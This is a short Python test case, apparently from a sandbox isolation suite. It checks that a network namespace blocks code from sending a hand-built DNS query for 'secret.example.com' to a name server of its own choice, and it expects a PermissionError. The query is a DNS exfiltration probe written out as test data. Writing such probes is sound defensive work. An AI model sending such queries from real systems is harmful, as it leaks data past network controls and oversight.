# try: ask a name server of its own choice
# layer: network namespace
# effect: answer: the listener is called
# want: PermissionError
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(bytes.fromhex('123401000001000000000000') + b'\x06secret\x07example\x03com\0\0\1\0\1', ('127.0.0.1', UDP4))
